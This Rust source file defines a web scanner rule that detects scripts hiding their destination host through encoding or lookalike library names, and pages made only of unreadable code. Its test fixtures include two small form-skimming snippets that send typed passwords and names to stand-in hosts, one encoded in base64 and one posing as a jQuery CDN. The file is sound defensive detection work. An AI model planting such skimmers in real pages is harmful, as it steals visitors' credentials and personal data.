//! `opaque-script`: a script hides with whom it talks, or a page is nothing but code that cannot be
//! read.

use std::sync::Arc;

use url::Url;

use super::{
    Answer, Example, Hit, Observation, Proof, Rule, destination::signals_to, imitation::imitated,
    loader::is_known_loader,
};
use crate::{
    finding::{Family, Signal, SignalKind, Text},
    page::{
        Page,
        script::{Destination, ScriptFacts},
    },
};

pub(super) const RULE: Rule = Rule {
    id: "opaque-script",
    family: Family::Script,
    what: Text {
        vi: "Tập lệnh giấu tên máy chủ lạ bằng mã hoá hoặc gọi máy chủ giả tên thư viện, nhất là khi nó đọc những gì người dùng nhập; hoặc cả trang chỉ là mã không đọc được.",
        en: "A script that names a foreign host only in code, or one that imitates a library, above all where it reads what visitors type; or a page that is nothing but code that cannot be read.",
    },
    why: Text {
        vi: "Mã lệnh lấy trộm mật khẩu và dữ liệu cá nhân phải giấu nơi nó gửi tới; đơn vị làm web đứng đắn không có lý do gì để giấu.",
        en: "Code that steals passwords and personal data must hide where it sends them; nobody who builds an honest site has a reason to.",
    },
    repair: Text {
        vi: "Hỏi đơn vị cung cấp về đoạn mã và đối chiếu với bản gốc; nếu không ai biết thì gỡ bỏ, tìm cùng đoạn mã trong các tệp khác và báo người dùng đổi mật khẩu.",
        en: "Ask the supplier about the code and compare it with its original; if nobody knows it, remove it, look for it in other files and tell users to change their passwords.",
    },
    examine,
    caught: &[
        Example::page(
            "what is typed goes to a host that stands in base64",
            &[Answer::all(
                r#"<body><form><input name="mk" type="password"></form><script>$("form").submit(function(){$.post(atob("aHR0cHM6Ly9raGFjaC5leGFtcGxlL2E="),$(this).serialize())})</script></body>"#,
            )],
        ),
        Example::page(
            "what is typed goes to a host that is named like a library's",
            &[Answer::all(
                r#"<body><input id="ho-ten"><script>setInterval(function(){new Image().src="https://jquery-cdn.example/p?"+document.getElementById("ho-ten").value},900)</script></body>"#,
            )],
        ),
    ],
    clean: &[
        Example::page(
            "an address in plain letters, and encoded code about the portal itself",
            &[Answer::all(
                r##"<body><input id="q"><script>var api="https://thong-ke.example/api";eval(atob("bG9jYXRpb24uaGFzaD0iI3RpbiI="));$.getJSON(api+$("#q").val(),show)</script></body>"##,
            )],
        ),
        Example::page(
            "a packed library that names its maker",
            &[Answer::all(
                r#"<body><script>eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\b'+c+'\b','g'),k[c]);return p}('0 1="2://3.4/"',5,5,'var|credits|https|thu-vien|example'.split('|'),0,{}))</script></body>"#,
            )],
        ),
        Example::page(
            "an app that draws the page",
            &[Answer::all(
                r#"<body><div id="app"></div><script>fetch("/api/trang").then(r=>r.json()).then(d=>{document.getElementById("app").innerHTML=d.html})</script></body>"#,
            )],
        ),
    ],
};

/// Addresses in the scripts of one page that are looked at.
const ADDRESSES: usize = 20_000;
/// Fewer characters of text than this, and the page is there for the code alone.
const EMPTY: usize = 200;

fn examine(observation: &Observation<'_>, hits: &mut Vec<Hit>) {
    for (identity, page) in observation.pages() {
        let mut left = ADDRESSES;
        for script in &page.scripts {
            let Some(facts) = &script.facts else { continue };
            left = left.saturating_sub(facts.addresses.len());
            if left == 0 {
                break;
            }
            let proof = || Proof::Element(Arc::clone(page), script.spot.clone());
            for (url, own) in hidden_hosts(observation, page, facts) {
                let Some(mut signals) = signals_to(observation, &url) else { continue };
                signals.extend(own);
                let key = url.host_str().unwrap_or_default().to_owned();
                hits.push(Hit { key, subject: url.to_string(), identity, signals, proof: proof() });
            }
            if facts.opaque && facts.encoded && is_bare(page) {
                let signals = vec![
                    Signal::new(SignalKind::Encoded, "code"),
                    Signal::new(SignalKind::Replaced, "empty-page"),
                ];
                let (key, subject) = (page.url.path().to_owned(), page.url.to_string());
                hits.push(Hit { key, subject, identity, signals, proof: proof() });
            }
        }
    }
}

/// Whether a page has nothing but code.
fn is_bare(page: &Page) -> bool {
    page.visible_text.len() < EMPTY
        && page.links.is_empty()
        && page.images.is_empty()
        && page.scripts.iter().all(|script| script.src.is_none())
}

/// Foreign hosts that a script hides, or that imitate others; those to which it leads, from which it
/// loads or to which it sends passwords are other rules' business.
fn hidden_hosts(
    observation: &Observation<'_>,
    page: &Page,
    facts: &ScriptFacts,
) -> Vec<(Url, Vec<Signal>)> {
    let url_of = |address: &String| page.url.join(address).ok();
    let hides_all = hides_all(observation, page, facts);
    let skimmed =
        facts.sends.iter().filter(|one| observation.knows_where() && !one.typed.is_empty());
    let mut told: Vec<String> = targets_of(facts)
        .chain(skimmed.filter_map(|one| address_of(&one.target)))
        .filter_map(|address| url_of(address)?.host_str().map(str::to_owned))
        .collect();
    let mut found = Vec::new();
    for address in &facts.addresses {
        let Some(url) = url_of(address) else { continue };
        let Some(host) = url.host_str() else { continue };
        let imitated = imitated(host);
        let disguised = !hides_all && facts.disguised.contains(address);
        let is_told = told.iter().any(|known| known == host);
        if is_told || !disguised && imitated.is_none() || is_known_loader(observation, &url) {
            continue;
        }
        let mut signals = Vec::new();
        if disguised {
            signals.push(Signal::new(SignalKind::Encoded, "host"));
        }
        signals.extend(imitated.map(|service| Signal::new(SignalKind::Imitates, service)));
        if facts.reads_typed {
            signals.push(Signal::new(SignalKind::Hijack, "typed"));
        }
        told.push(host.to_owned());
        found.push((url, signals));
    }
    found
}

/// Whether a script hides well-known hosts as well: then it hides everything, not the one that
/// matters.
fn hides_all(observation: &Observation<'_>, page: &Page, facts: &ScriptFacts) -> bool {
    let mut urls = facts.disguised.iter().filter_map(|address| page.url.join(address).ok());
    urls.any(|url| observation.leads_away(&url) && is_known_loader(observation, &url))
}

/// Where a script leads, and what it loads.
fn targets_of(facts: &ScriptFacts) -> impl Iterator<Item = &String> {
    let targets = facts.navigations.iter().map(|one| &one.target);
    targets.chain(facts.loads.iter().map(|one| &one.target)).filter_map(address_of)
}

fn address_of(target: &Destination) -> Option<&String> {
    match target {
        Destination::Whole(address) | Destination::Begins(address) => Some(address),
        Destination::Element(_) | Destination::Unknown => None,
    }
}
